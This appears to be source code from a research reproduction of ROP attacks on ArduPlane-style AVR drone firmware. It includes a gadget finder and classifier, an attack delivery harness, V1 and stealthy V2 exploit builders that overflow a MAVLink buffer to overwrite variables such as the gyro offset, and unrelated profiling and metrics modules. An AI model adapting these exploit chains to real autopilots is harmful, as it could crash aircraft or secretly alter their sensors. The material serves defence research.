"""Gadget discovery and classification.

A *gadget* is a maximal run of decodable, fall-through instructions ending
in ``ret`` (the unit the paper counts — it reports 953 in its ArduPlane
test build).  On top of the raw inventory, the classifier recognizes the
two shapes the stealthy attack is built from:

* :class:`StkMoveGadget` (Fig. 4) — writes SPH/SPL from r29/r28
  (``out 0x3e``/``out 0x3d``), then pops and returns.  Moves the stack
  pointer anywhere.
* :class:`WriteMemGadget` (Fig. 5) — the *combination gadget*: stores
  r5/r6/r7 to ``Y+1..Y+3`` and then pops a long register chain including
  r29/r28 before returning.  Entered at the pop half it loads registers
  from attacker bytes; entered at the ``std`` half it writes memory.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from ..avr.decoder import decode_at
from ..avr.insn import CONTROL_FLOW, Instruction, Mnemonic
from ..binfmt.image import FirmwareImage
from ..errors import DecodeError, GadgetNotFoundError

M = Mnemonic


@dataclass(frozen=True)
class Gadget:
    """One maximal fall-through run ending in ret."""

    address: int  # byte address of the first instruction
    instructions: Tuple[Tuple[int, Instruction], ...]  # (byte addr, insn)

    @property
    def ret_address(self) -> int:
        return self.instructions[-1][0]

    @property
    def length(self) -> int:
        return len(self.instructions)

    def mnemonics(self) -> List[Mnemonic]:
        return [insn.mnemonic for _addr, insn in self.instructions]


@dataclass(frozen=True)
class StkMoveGadget:
    """Fig. 4: SP <- r29:r28, then pops, then ret."""

    entry: int  # byte address of `out 0x3e, r29`
    pop_regs: Tuple[int, ...]  # registers popped before ret, in order

    @property
    def pop_bytes(self) -> int:
        return len(self.pop_regs)

    @property
    def entry_word(self) -> int:
        return self.entry // 2


@dataclass(frozen=True)
class WriteMemGadget:
    """Fig. 5: std Y+1..Y+q of r5..r7, then a long pop chain, then ret."""

    std_entry: int  # byte address of the first std (the "first half")
    pop_entry: int  # byte address of the first pop (the "second half")
    stores: Tuple[Tuple[int, int], ...]  # (Y displacement, source register)
    pop_regs: Tuple[int, ...]  # registers popped between stores and ret

    @property
    def pop_bytes(self) -> int:
        return len(self.pop_regs)

    def pop_index(self, reg: int) -> int:
        """Stack-byte index (from pop_entry) that loads ``reg``."""
        return self.pop_regs.index(reg)

    @property
    def std_entry_word(self) -> int:
        return self.std_entry // 2

    @property
    def pop_entry_word(self) -> int:
        return self.pop_entry // 2


class GadgetFinder:
    """Scans an image's executable region for gadgets."""

    def __init__(self, image: FirmwareImage) -> None:
        self.image = image
        self._gadgets: Optional[List[Gadget]] = None
        self._jop_gadgets: Optional[List[Gadget]] = None

    def gadgets(self) -> List[Gadget]:
        """All maximal ret-gadgets in [0, text_end)."""
        if self._gadgets is None:
            self._gadgets = self._scan()
        return self._gadgets

    def count(self) -> int:
        """The number the paper's Table-style 'gadgets found' reports."""
        return len(self.gadgets())

    def jop_gadgets(self) -> List[Gadget]:
        """Jump-oriented gadgets: maximal runs ending in ijmp/icall.

        The paper's related work (Bletsch et al.) dispatches through
        register-indirect jumps instead of rets; MAVR breaks these the
        same way since their addresses also move with the shuffle.
        """
        if self._jop_gadgets is None:
            self._jop_gadgets = self._scan(
                terminators=(M.IJMP, M.ICALL), fixed_region=False
            )
        return self._jop_gadgets

    def jop_count(self) -> int:
        return len(self.jop_gadgets())

    def _scan(
        self,
        terminators: Tuple[Mnemonic, ...] = (M.RET,),
        fixed_region: bool = True,
    ) -> List[Gadget]:
        """Sweep the executable ranges (fixed region + .text).

        The flash data section — wherever the linker put it — is skipped:
        constants are not instruction-fetchable on their own and the paper
        counts gadgets in executable code.
        """
        image = self.image
        fixed_end = min(image.text_start, image.data_start)
        segments = [(image.text_start, image.text_end)]
        if fixed_region:
            segments.insert(0, (0, fixed_end))
        found: List[Gadget] = []
        for start, end in segments:
            found.extend(self._scan_segment(start, end, terminators))
        return found

    def _scan_segment(
        self, start: int, end: int, terminators: Tuple[Mnemonic, ...] = (M.RET,)
    ) -> List[Gadget]:
        code = self.image.code
        found: List[Gadget] = []
        run: List[Tuple[int, Instruction]] = []
        offset = start
        while offset + 1 < end:
            try:
                insn, size = decode_at(code, offset)
            except DecodeError:
                run = []
                offset += 2
                continue
            if insn.mnemonic in terminators:
                run.append((offset, insn))
                found.append(Gadget(run[0][0], tuple(run)))
                run = []
            elif insn.mnemonic in CONTROL_FLOW:
                run = []
            else:
                run.append((offset, insn))
            offset += size
        return found

    # -- classification ---------------------------------------------------

    def stk_move_gadgets(self) -> List[StkMoveGadget]:
        """All gadgets containing the SPH/SPL write pattern."""
        results = []
        for gadget in self.gadgets():
            classified = _classify_stk_move(gadget)
            if classified is not None:
                results.append(classified)
        return results

    def write_mem_gadgets(self) -> List[WriteMemGadget]:
        """All combination store+pop gadgets usable for arbitrary writes."""
        results = []
        for gadget in self.gadgets():
            classified = _classify_write_mem(gadget)
            if classified is not None:
                results.append(classified)
        return results

    def find_stk_move(self) -> StkMoveGadget:
        gadgets = self.stk_move_gadgets()
        if not gadgets:
            raise GadgetNotFoundError("no stk_move gadget in image")
        return gadgets[0]

    def find_write_mem(self, min_pops: int = 16) -> WriteMemGadget:
        for gadget in self.write_mem_gadgets():
            if gadget.pop_bytes >= min_pops and {5, 6, 7} <= set(gadget.pop_regs):
                return gadget
        raise GadgetNotFoundError(
            f"no write_mem gadget with >= {min_pops} pops covering r5..r7"
        )

    def histogram(self) -> Dict[int, int]:
        """Gadget-length histogram (for reporting)."""
        counts: Dict[int, int] = {}
        for gadget in self.gadgets():
            counts[gadget.length] = counts.get(gadget.length, 0) + 1
        return counts


def _classify_stk_move(gadget: Gadget) -> Optional[StkMoveGadget]:
    insns = gadget.instructions
    for index, (addr, insn) in enumerate(insns):
        if insn.mnemonic is M.OUT and insn.a == 0x3E:
            # look for the matching SPL write after it
            saw_spl = False
            pops: List[int] = []
            valid = True
            for _later_addr, later in insns[index + 1 : -1]:
                if later.mnemonic is M.OUT and later.a == 0x3D:
                    saw_spl = True
                elif later.mnemonic is M.POP:
                    pops.append(later.rd)
                elif later.mnemonic is M.OUT and later.a == 0x3F:
                    continue  # SREG restore, harmless
                else:
                    valid = False
                    break
            if saw_spl and valid:
                return StkMoveGadget(entry=addr, pop_regs=tuple(pops))
    return None


def _classify_write_mem(gadget: Gadget) -> Optional[WriteMemGadget]:
    insns = gadget.instructions
    stores: List[Tuple[int, int, int]] = []  # (addr, q, reg)
    for addr, insn in insns:
        if insn.mnemonic is M.STD_Y:
            stores.append((addr, insn.q or 0, insn.rr))
    if not stores:
        return None
    # pops strictly after the last store, up to ret
    last_store_addr = stores[-1][0]
    pops: List[int] = []
    pop_entry = None
    for addr, insn in insns:
        if addr <= last_store_addr:
            continue
        if insn.mnemonic is M.POP:
            if pop_entry is None:
                pop_entry = addr
            pops.append(insn.rd)
        elif insn.mnemonic is M.RET:
            break
        else:
            return None  # interleaved non-pop breaks the combination shape
    if pop_entry is None or not pops:
        return None
    # the combination gadget must reload Y and the stored registers
    stored_regs = {reg for _addr, _q, reg in stores}
    if not ({28, 29} <= set(pops) and stored_regs <= set(pops)):
        return None
    return WriteMemGadget(
        std_entry=stores[0][0],
        pop_entry=pop_entry,
        stores=tuple((q, reg) for _addr, q, reg in stores),
        pop_regs=tuple(pops),
    )
