"""Attack delivery and outcome observation.

Shared harness for all three attack variants: deliver a payload through
the (malicious) ground station, keep the simulation running, and judge the
outcome by the two criteria the paper uses — did the attack's memory writes
land, and did the ground station notice anything.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from ..telemetry import Telemetry
from ..uav.autopilot import Autopilot, AutopilotStatus, CrashInfo
from ..uav.groundstation import GroundStation


@dataclass
class AttackOutcome:
    """What happened after a payload was delivered."""

    name: str
    delivered_bytes: int
    status: AutopilotStatus
    crash: Optional[CrashInfo]
    telemetry_frames_after: int
    link_lost: bool
    effects: Dict[str, int] = field(default_factory=dict)

    @property
    def stealthy(self) -> bool:
        """Paper's stealth criterion: firmware alive, GCS saw no anomaly."""
        return (
            self.status is AutopilotStatus.RUNNING
            and not self.link_lost
            and self.telemetry_frames_after > 0
        )

    @property
    def succeeded(self) -> bool:
        """Did the attack change what it set out to change?"""
        return bool(self.effects)


def deliver(
    autopilot: Autopilot,
    gcs: GroundStation,
    payload_frames: List[bytes],
    warmup_ticks: int = 5,
    between_ticks: int = 3,
    observe_ticks: int = 30,
    watch_variables: Dict[str, int] = None,
    name: str = "attack",
    telemetry: Optional[Telemetry] = None,
) -> AttackOutcome:
    """Run the full delivery protocol and observe the aftermath.

    ``watch_variables`` maps variable names to their expected *post-attack*
    values; only variables that actually hold those values afterwards are
    reported in ``effects``.  With a telemetry handle, delivery and
    outcome land in the registry (``attack.*`` counters) and the event
    log (``attack.delivered`` / ``attack.outcome``).
    """
    tel = telemetry if telemetry is not None else Telemetry()
    tel.counter("attack.attempts", component="attack", attack=name).inc()
    for _ in range(warmup_ticks):
        autopilot.tick()
        gcs.ingest(autopilot.transmitted_bytes())

    total = 0
    with tel.span("attack.deliver", attack=name, frames=len(payload_frames)):
        for frame in payload_frames:
            autopilot.receive_bytes(frame)
            total += len(frame)
            tel.counter("attack.frames_sent", component="attack", attack=name).inc()
            for _ in range(between_ticks):
                autopilot.tick()
                gcs.ingest(autopilot.transmitted_bytes())
            if autopilot.status is not AutopilotStatus.RUNNING:
                break
        tel.counter(
            "attack.bytes_delivered", component="attack", attack=name
        ).inc(total)
        tel.emit("attack.delivered", attack=name, bytes=total)

    frames_before_observe = gcs.health.frames_received
    for _ in range(observe_ticks):
        autopilot.tick()
        gcs.ingest(autopilot.transmitted_bytes())

    effects: Dict[str, int] = {}
    for variable, expected in (watch_variables or {}).items():
        actual = autopilot.read_variable(variable)
        if actual == expected:
            effects[variable] = actual

    outcome = AttackOutcome(
        name=name,
        delivered_bytes=total,
        status=autopilot.status,
        crash=autopilot.crash,
        telemetry_frames_after=gcs.health.frames_received - frames_before_observe,
        link_lost=gcs.link_lost,
        effects=effects,
    )
    if outcome.succeeded:
        tel.counter("attack.successes", component="attack", attack=name).inc()
    if outcome.stealthy:
        tel.counter("attack.stealthy", component="attack", attack=name).inc()
    tel.emit(
        "attack.outcome",
        attack=name,
        status=outcome.status,
        succeeded=outcome.succeeded,
        stealthy=outcome.stealthy,
        link_lost=outcome.link_lost,
        effects=effects,
    )
    return outcome
