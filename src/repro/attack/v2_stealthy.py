"""ROP Attack V2 — the stealthy attack with clean return (paper §IV-D).

The innovation over V1: the chain lives *inside the vulnerable buffer* and
the stack frame is repaired before the final return, so the firmware
resumes as if nothing happened.

Timeline (matching the paper's Fig. 6 progression):

1.  The overflow overwrites the saved r28/r29 with ``buffer_chain - 1`` and
    the return address with ``stk_move``.
2.  ``stk_move`` sets SP into the buffer ("utilizing the buffer space to
    store the attack payload") — damage to the live stack is minimized.
3.  The in-buffer chain enters ``write_mem_gadget``'s pop half, then
    bounces on the std half: first the attacker's write(s), then two
    *repair* writes that restore the saved-register bytes and the original
    return address the overflow destroyed.
4.  A final ``stk_move`` hop puts SP back under the repaired bytes; its
    pops restore r28/r29 and its ``ret`` consumes the repaired return
    address — the comms task continues, the stack exactly as before.
"""

from __future__ import annotations

from typing import List, Optional, Sequence

from ..binfmt.image import FirmwareImage
from ..errors import AttackError
from ..mavlink.messages import PARAM_SET
from ..mavlink.packet import HEADER_LENGTH
from ..uav.autopilot import Autopilot
from ..uav.groundstation import MaliciousGroundStation
from .chain import ChainBuilder, Write3, ret_address_bytes
from .results import AttackOutcome, deliver
from .runtime_facts import RuntimeFacts, derive_runtime_facts, variable_address


class StealthyAttack:
    """Builds and delivers clean-return payloads against one victim image."""

    def __init__(
        self,
        image: FirmwareImage,
        facts: Optional[RuntimeFacts] = None,
        telemetry=None,
    ) -> None:
        self.image = image
        self.facts = facts if facts is not None else derive_runtime_facts(image)
        self.builder = ChainBuilder(image)
        self.telemetry = telemetry

    # -- payload construction ------------------------------------------------

    def repair_writes(self) -> List[Write3]:
        """The two stores that undo the overflow's damage."""
        facts = self.facts
        return [
            # restore the bytes the closing stk_move will pop into
            # r28/r29/r16 (the saved-register slots the overflow clobbered)
            Write3(
                facts.frame_sp - 2,
                bytes([facts.saved_r28, facts.saved_r29, 0x00]),
            ),
            # restore the pushed return address (high, mid, low in memory)
            Write3(
                facts.frame_sp + 1,
                ret_address_bytes(facts.return_address_word),
            ),
        ]

    def home_hop_regs(self) -> dict:
        """r28/r29 for the final stk_move: SP = frame_sp - 3.

        Its three pops then consume the repaired saved-register bytes and
        its ret consumes the repaired return address, leaving SP exactly
        where a normal return would have.
        """
        new_sp = self.facts.frame_sp - 3
        return {28: new_sp & 0xFF, 29: (new_sp >> 8) & 0xFF}

    def attack_bytes(self, writes: Sequence[Write3]) -> bytes:
        """Everything after the MAVLink header in the exploit burst."""
        facts = self.facts
        builder = self.builder
        chain = builder.chain_block(
            list(writes) + self.repair_writes(),
            final_ret_word=builder.stk.entry_word,
            final_regs=self.home_hop_regs(),
        )
        chain_base = facts.buffer_start + HEADER_LENGTH
        if HEADER_LENGTH + len(chain) > facts.buffer_size:
            raise AttackError(
                f"V2 chain needs {HEADER_LENGTH + len(chain)} bytes but the "
                f"buffer holds {facts.buffer_size}; use the V3 trampoline "
                "for payloads this large"
            )
        body = chain
        body += bytes([0xEE]) * (facts.buffer_size - HEADER_LENGTH - len(chain))
        hop = chain_base - 1  # SP target for the first stk_move
        body += bytes([(hop >> 8) & 0xFF, hop & 0xFF])  # saved r29, r28 slots
        body += ret_address_bytes(builder.stk.entry_word)
        return body

    def max_payload_writes(self) -> int:
        """How many 3-byte writes fit in one buffer-resident chain."""
        available = self.facts.buffer_size - HEADER_LENGTH
        per_block = self.builder.wm.pop_bytes + 3
        header = self.builder.stk.pop_bytes + 3
        blocks = (available - header) // per_block
        return max(blocks - 1 - len(self.repair_writes()), 0)

    # -- delivery --------------------------------------------------------------

    def execute(
        self,
        autopilot: Autopilot,
        gcs: Optional[MaliciousGroundStation] = None,
        target_variable: str = "gyro_offset",
        values: bytes = b"\x40\x00\x00",
        observe_ticks: int = 30,
    ) -> AttackOutcome:
        """Deliver a single-write stealthy attack and observe the aftermath."""
        station = gcs if gcs is not None else MaliciousGroundStation()
        target = variable_address(self.image, target_variable)
        burst = station.exploit_burst(
            PARAM_SET.msg_id, self.attack_bytes([Write3(target, values)])
        )
        symbol = self.image.symbols.get(target_variable)
        padded = values + bytes(max(symbol.size - len(values), 0))
        expected = int.from_bytes(padded[: symbol.size], "little")
        return deliver(
            autopilot,
            station,
            [burst],
            observe_ticks=observe_ticks,
            watch_variables={target_variable: expected},
            name="rop-v2-stealthy",
            telemetry=self.telemetry,
        )
