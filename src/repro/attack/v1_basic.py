"""ROP Attack V1 — the basic attack (paper §IV-C).

One combination gadget: enter ``write_mem_gadget`` at its pop half to load
Y and r5/r6/r7 from the stack, bounce on the std half to perform the write
(e.g. set the gyroscope value), then fall off into garbage.  The stack
frames around the payload are destroyed and the board stops behaving —
which is exactly the drawback V2 fixes.

Burst layout (the vulnerable loop copies every byte to a known offset)::

    [6 B MAVLink header]              -> buffer[0..5]
    [filler]                          -> rest of the buffer
    [2 B junk]                        -> saved r29/r28 slots
    [3 B ret -> write_mem pop half]   -> smashed return address
    [pop block][ret -> std half]      -> loads Y/r5..r7, does the write
    [pop block][ret -> garbage]       -> nothing left to return to
"""

from __future__ import annotations

from typing import List, Optional

from ..binfmt.image import FirmwareImage
from ..mavlink.messages import PARAM_SET
from ..mavlink.packet import HEADER_LENGTH
from ..uav.autopilot import Autopilot
from ..uav.groundstation import MaliciousGroundStation
from .chain import ChainBuilder, FILL_BYTE, Write3, ret_address_bytes
from .results import AttackOutcome, deliver
from .runtime_facts import RuntimeFacts, derive_runtime_facts, variable_address

# A word address guaranteed to be outside any application image: the final
# ret lands here and the core starts "executing random garbage".
GARBAGE_WORD = 0x1FFF8


class BasicAttack:
    """Builds and delivers V1 payloads against one victim image."""

    def __init__(
        self,
        image: FirmwareImage,
        facts: Optional[RuntimeFacts] = None,
        telemetry=None,
    ) -> None:
        self.image = image
        self.facts = facts if facts is not None else derive_runtime_facts(image)
        self.builder = ChainBuilder(image)
        self.telemetry = telemetry

    def attack_bytes(self, target: int, values: bytes) -> bytes:
        """Everything after the MAVLink header in the exploit burst."""
        builder = self.builder
        chain_after_ret = builder.write_chain(
            [Write3(target, values)], final_ret_word=GARBAGE_WORD, final_regs={}
        )
        out = bytes([FILL_BYTE]) * (self.facts.buffer_size - HEADER_LENGTH)
        out += bytes([FILL_BYTE, FILL_BYTE])  # saved r29/r28: junk
        out += ret_address_bytes(builder.wm.pop_entry_word)
        out += chain_after_ret
        return out

    def execute(
        self,
        autopilot: Autopilot,
        gcs: Optional[MaliciousGroundStation] = None,
        target_variable: str = "gyro_offset",
        values: bytes = b"\x11\x22\x33",
        observe_ticks: int = 30,
    ) -> AttackOutcome:
        """Deliver V1 against a live autopilot and observe the aftermath."""
        station = gcs if gcs is not None else MaliciousGroundStation()
        target = variable_address(self.image, target_variable)
        burst = station.exploit_burst(
            PARAM_SET.msg_id, self.attack_bytes(target, values)
        )
        symbol = self.image.symbols.get(target_variable)
        padded = values + bytes(max(symbol.size - len(values), 0))
        expected = int.from_bytes(padded[: symbol.size], "little")
        return deliver(
            autopilot,
            station,
            [burst],
            observe_ticks=observe_ticks,
            watch_variables={target_variable: expected},
            name="rop-v1-basic",
            telemetry=self.telemetry,
        )
