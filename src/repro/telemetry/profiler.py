"""Profile data model: PC-sample attribution, reports, collapsed stacks.

This module is the *presentation* half of the PC profiler: it knows how
to turn raw per-address samples — ``{pc_bytes: [hits, cycles]}`` — into
per-function self-cycle tables, hot-address listings and flamegraph-
compatible collapsed-stack text.  It is dependency-free (like the rest
of :mod:`repro.telemetry`): the function layout arrives as plain
``(name, start, end)`` triples, so the sampling half
(:mod:`repro.avr.profile`) owns the only import of :mod:`repro.binfmt`.

Pseudo-regions cover addresses outside any known function:

* ``[fixed]``    — the vectors+init region below ``text_start`` (interrupt
  vectors, init stubs, trampolines);
* ``[unmapped]`` — anything else (erased flash, data constants executed
  as code — usually the signature of a crash or an attack).
"""

from __future__ import annotations

from bisect import bisect_right
from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional, Sequence, Tuple

PROFILE_SCHEMA = 1

FIXED_REGION = "[fixed]"
UNMAPPED_REGION = "[unmapped]"


@dataclass(frozen=True)
class Region:
    """One attributable address range (a function or a pseudo-region)."""

    name: str
    start: int
    end: int

    def contains(self, pc_bytes: int) -> bool:
        return self.start <= pc_bytes < self.end


class FunctionTable:
    """Sorted function regions with binary-search PC attribution.

    Built once per profiled image from ``(name, start, end)`` triples
    (see :meth:`repro.avr.profile.AvrProfiler.use_image`); ``resolve``
    is the per-sample lookup, so it keeps a one-entry cache — consecutive
    retires overwhelmingly land in the same function.
    """

    def __init__(
        self,
        regions: Iterable[Tuple[str, int, int]],
        text_start: int = 0,
        text_end: Optional[int] = None,
    ) -> None:
        ordered = sorted(regions, key=lambda r: r[1])
        self._regions: List[Region] = [
            Region(name, start, end) for name, start, end in ordered
        ]
        self._starts: List[int] = [r.start for r in self._regions]
        self.text_start = text_start
        self.text_end = text_end
        self._fixed = Region(FIXED_REGION, 0, text_start)
        self._last: Optional[Region] = None

    def __len__(self) -> int:
        return len(self._regions)

    def functions(self) -> List[Region]:
        return list(self._regions)

    def resolve(self, pc_bytes: int) -> Region:
        """The region containing ``pc_bytes`` (never ``None``)."""
        last = self._last
        if last is not None and last.contains(pc_bytes):
            return last
        index = bisect_right(self._starts, pc_bytes) - 1
        if index >= 0:
            region = self._regions[index]
            if region.contains(pc_bytes):
                self._last = region
                return region
        if pc_bytes < self.text_start:
            return self._fixed
        return Region(UNMAPPED_REGION, pc_bytes, pc_bytes + 2)


# -- report assembly ------------------------------------------------------


def build_report(
    samples: Dict[int, List[int]],
    table: Optional[FunctionTable],
    mode: str = "exact",
    top_addresses: int = 20,
) -> dict:
    """Fold raw ``{pc: [hits, cycles]}`` samples into a profile report.

    The report is JSON-ready and deterministic: functions sort by
    descending self-cycles (name-tiebroken), hot addresses by descending
    hit count then address.
    """
    per_function: Dict[str, List[int]] = {}
    entries: Dict[str, int] = {}
    total_hits = 0
    total_cycles = 0
    rows = []
    for pc, (hits, cycles) in samples.items():
        region = table.resolve(pc) if table is not None else Region(
            UNMAPPED_REGION, pc, pc + 2
        )
        cell = per_function.get(region.name)
        if cell is None:
            per_function[region.name] = [hits, cycles]
            entries[region.name] = region.start
        else:
            cell[0] += hits
            cell[1] += cycles
        total_hits += hits
        total_cycles += cycles
        rows.append((pc, hits, cycles, region.name, pc - region.start))

    functions = [
        {
            "name": name,
            "start": entries[name],
            "hits": hits,
            "self_cycles": cycles,
            "share_pct": round(100.0 * cycles / total_cycles, 2)
            if total_cycles else 0.0,
        }
        for name, (hits, cycles) in per_function.items()
    ]
    functions.sort(key=lambda f: (-f["self_cycles"], f["name"]))

    rows.sort(key=lambda r: (-r[1], r[0]))
    hot = [
        {
            "pc": pc,
            "hits": hits,
            "cycles": cycles,
            "function": name,
            "offset": offset,
        }
        for pc, hits, cycles, name, offset in rows[:top_addresses]
    ]
    return {
        "schema": PROFILE_SCHEMA,
        "mode": mode,
        "total_hits": total_hits,
        "total_cycles": total_cycles,
        "functions": functions,
        "hot_addresses": hot,
    }


def merge_reports(reports: Sequence[dict]) -> dict:
    """Fold several :func:`build_report` dicts (e.g. one per worker)."""
    reports = [r for r in reports if r]
    if not reports:
        return build_report({}, None)
    per_function: Dict[str, dict] = {}
    hot: Dict[int, dict] = {}
    total_hits = 0
    total_cycles = 0
    for report in reports:
        total_hits += report.get("total_hits", 0)
        total_cycles += report.get("total_cycles", 0)
        for row in report.get("functions", ()):
            into = per_function.get(row["name"])
            if into is None:
                per_function[row["name"]] = dict(row)
            else:
                into["hits"] += row["hits"]
                into["self_cycles"] += row["self_cycles"]
        for row in report.get("hot_addresses", ()):
            into = hot.get(row["pc"])
            if into is None:
                hot[row["pc"]] = dict(row)
            else:
                into["hits"] += row["hits"]
                into["cycles"] += row["cycles"]
    functions = list(per_function.values())
    for row in functions:
        row["share_pct"] = round(
            100.0 * row["self_cycles"] / total_cycles, 2
        ) if total_cycles else 0.0
    functions.sort(key=lambda f: (-f["self_cycles"], f["name"]))
    addresses = sorted(hot.values(), key=lambda r: (-r["hits"], r["pc"]))
    return {
        "schema": PROFILE_SCHEMA,
        "mode": "merged",
        "total_hits": total_hits,
        "total_cycles": total_cycles,
        "functions": functions,
        "hot_addresses": addresses[:20],
    }


# -- collapsed stacks (flamegraph wire format) ----------------------------


def collapsed_stack_lines(collapsed: Dict[Tuple[str, ...], int]) -> List[str]:
    """``a;b;c <cycles>`` lines, the format ``flamegraph.pl``/speedscope eat.

    Sorted by chain for deterministic output.
    """
    return [
        ";".join(chain) + f" {cycles}"
        for chain, cycles in sorted(collapsed.items())
        if cycles > 0
    ]


def format_profile_table(report: dict, top: int = 15) -> str:
    """Human-readable per-function table for the CLI."""
    lines = [
        f"mode: {report['mode']}   samples: {report['total_hits']}   "
        f"cycles: {report['total_cycles']}",
        f"{'function':<32} {'self-cycles':>12} {'hits':>10} {'share':>7}",
    ]
    for row in report["functions"][:top]:
        lines.append(
            f"{row['name']:<32} {row['self_cycles']:>12} "
            f"{row['hits']:>10} {row['share_pct']:>6.2f}%"
        )
    remaining = len(report["functions"]) - top
    if remaining > 0:
        lines.append(f"... and {remaining} more functions")
    return "\n".join(lines)
