"""Metrics registry: counters, gauges and fixed-bucket histograms.

Two publishing styles coexist, chosen by how hot the publishing code is:

* **push** — call :meth:`Counter.inc` / :meth:`Gauge.set` /
  :meth:`Histogram.observe` from code that already does bookkeeping
  (master boots, ISP programming passes).  Counters are *monotonic by
  contract*: any decrement — ``inc`` by a negative amount or ``set`` to a
  smaller value — raises :class:`~repro.errors.TelemetryError`.  That
  contract is what turns a silent stats-reset bug in the reflash path
  into a loud test failure.
* **pull** — register a *collector* with
  :meth:`MetricsRegistry.add_collector`.  Collectors run only when a
  snapshot is taken and sample cheap attributes (CPU instruction counts,
  decode-cache statistics, parser counters) into gauges.  The execution
  engine's retire loop is never touched, which is how the disabled-path
  overhead stays at zero.

Instruments are identified by ``(name, labels)``.  ``counter()`` /
``gauge()`` / ``histogram()`` get-or-create shared instruments;
``own_counter()`` / ``own_gauge()`` always create a private one (an
``instance`` label is added on collision), which is what the stats-view
dataclasses use so that two programmers never fight over one monotonic
counter.
"""

from __future__ import annotations

import math
from typing import Callable, Dict, List, Optional, Tuple

from ..errors import TelemetryError

LabelsKey = Tuple[str, Tuple[Tuple[str, str], ...]]

# Default histogram buckets: millisecond timings from sub-ms page writes
# up to multi-minute full transfers (upper bounds, plus +inf implicitly).
DEFAULT_BUCKETS_MS = (
    1.0, 2.5, 5.0, 10.0, 25.0, 50.0, 100.0, 250.0, 500.0,
    1_000.0, 2_500.0, 5_000.0, 10_000.0, 30_000.0, 120_000.0,
)


def _labels_key(name: str, labels: Dict[str, object]) -> LabelsKey:
    return (name, tuple(sorted((k, str(v)) for k, v in labels.items())))


class Counter:
    """Monotonically increasing value; decrements raise."""

    kind = "counter"
    __slots__ = ("name", "labels", "_value")

    def __init__(self, name: str, labels: Dict[str, object]) -> None:
        self.name = name
        self.labels = dict(labels)
        self._value: float = 0

    @property
    def value(self) -> float:
        return self._value

    def inc(self, amount: float = 1) -> None:
        if amount < 0:
            raise TelemetryError(
                f"counter {self.name!r} cannot be incremented by {amount}"
            )
        self._value += amount

    def set(self, value: float) -> None:
        """Assign an absolute value; going backwards is an error.

        This is what makes stats views monotonic-checked: the property
        setter behind ``stats.programming_cycles += 1`` lands here, so a
        silent reset (``stats.pages_written = 0`` mid-lifetime) raises
        instead of quietly corrupting the wear accounting.
        """
        if value < self._value:
            raise TelemetryError(
                f"counter {self.name!r} cannot decrease from "
                f"{self._value} to {value}"
            )
        self._value = value

    def to_dict(self) -> dict:
        return {
            "name": self.name, "kind": self.kind,
            "labels": self.labels, "value": self._value,
        }


class Gauge:
    """Point-in-time value; free to move in both directions (or be unset)."""

    kind = "gauge"
    __slots__ = ("name", "labels", "_value")

    def __init__(
        self, name: str, labels: Dict[str, object],
        initial: Optional[float] = 0,
    ) -> None:
        self.name = name
        self.labels = dict(labels)
        self._value: Optional[float] = initial

    @property
    def value(self) -> Optional[float]:
        return self._value

    def set(self, value: Optional[float]) -> None:
        self._value = value

    def inc(self, amount: float = 1) -> None:
        self._value = (self._value or 0) + amount

    def dec(self, amount: float = 1) -> None:
        self._value = (self._value or 0) - amount

    def to_dict(self) -> dict:
        return {
            "name": self.name, "kind": self.kind,
            "labels": self.labels, "value": self._value,
        }


class Histogram:
    """Fixed-bucket distribution with percentile estimation.

    Buckets are upper bounds; observations above the last bound land in
    the implicit +inf bucket.  Percentiles interpolate linearly inside
    the bucket containing the requested rank — exact enough for latency
    reporting without keeping every observation.
    """

    kind = "histogram"
    __slots__ = (
        "name", "labels", "bounds", "bucket_counts",
        "count", "sum", "min", "max",
    )

    def __init__(
        self, name: str, labels: Dict[str, object],
        buckets: Optional[Tuple[float, ...]] = None,
    ) -> None:
        self.name = name
        self.labels = dict(labels)
        bounds = tuple(sorted(buckets if buckets else DEFAULT_BUCKETS_MS))
        if not bounds:
            raise TelemetryError(f"histogram {name!r} needs at least one bucket")
        self.bounds = bounds
        self.bucket_counts = [0] * (len(bounds) + 1)  # last = +inf
        self.count = 0
        self.sum = 0.0
        self.min = math.inf
        self.max = -math.inf

    def observe(self, value: float) -> None:
        self.count += 1
        self.sum += value
        if value < self.min:
            self.min = value
        if value > self.max:
            self.max = value
        for index, bound in enumerate(self.bounds):
            if value <= bound:
                self.bucket_counts[index] += 1
                return
        self.bucket_counts[-1] += 1

    def percentile(self, p: float) -> Optional[float]:
        """Estimated value at percentile ``p`` (0..100)."""
        if self.count == 0:
            return None
        if not 0 <= p <= 100:
            raise TelemetryError(f"percentile {p} out of range 0..100")
        rank = p / 100.0 * self.count
        cumulative = 0
        lower = max(self.min, 0.0)
        for index, bound in enumerate(self.bounds):
            in_bucket = self.bucket_counts[index]
            if cumulative + in_bucket >= rank and in_bucket:
                fraction = (rank - cumulative) / in_bucket
                width = bound - lower
                return min(lower + fraction * width, self.max)
            if in_bucket:
                lower = bound
            cumulative += in_bucket
        return self.max  # +inf bucket: best estimate is the observed max

    @property
    def mean(self) -> Optional[float]:
        return self.sum / self.count if self.count else None

    def to_dict(self) -> dict:
        return {
            "name": self.name, "kind": self.kind, "labels": self.labels,
            "count": self.count, "sum": self.sum,
            "min": self.min if self.count else None,
            "max": self.max if self.count else None,
            "mean": self.mean,
            "p50": self.percentile(50),
            "p90": self.percentile(90),
            "p99": self.percentile(99),
            "buckets": {
                **{str(b): c for b, c in zip(self.bounds, self.bucket_counts)},
                "+inf": self.bucket_counts[-1],
            },
        }


class MetricsRegistry:
    """Holds instruments and snapshot-time collectors."""

    def __init__(self, labels: Optional[Dict[str, object]] = None) -> None:
        self.base_labels = dict(labels or {})
        self._instruments: Dict[LabelsKey, object] = {}
        self._collectors: List[Callable[["MetricsRegistry"], None]] = []

    # -- get-or-create (shared) instruments -----------------------------

    def _get_or_create(self, cls, name: str, labels: Dict[str, object], **kwargs):
        merged = {**self.base_labels, **labels}
        key = _labels_key(name, merged)
        instrument = self._instruments.get(key)
        if instrument is None:
            instrument = self._instruments[key] = cls(name, merged, **kwargs)
        elif not isinstance(instrument, cls):
            raise TelemetryError(
                f"metric {name!r} {merged} already registered as "
                f"{instrument.kind}, not {cls.kind}"
            )
        return instrument

    def counter(self, name: str, **labels) -> Counter:
        return self._get_or_create(Counter, name, labels)

    def gauge(self, name: str, **labels) -> Gauge:
        return self._get_or_create(Gauge, name, labels)

    def histogram(
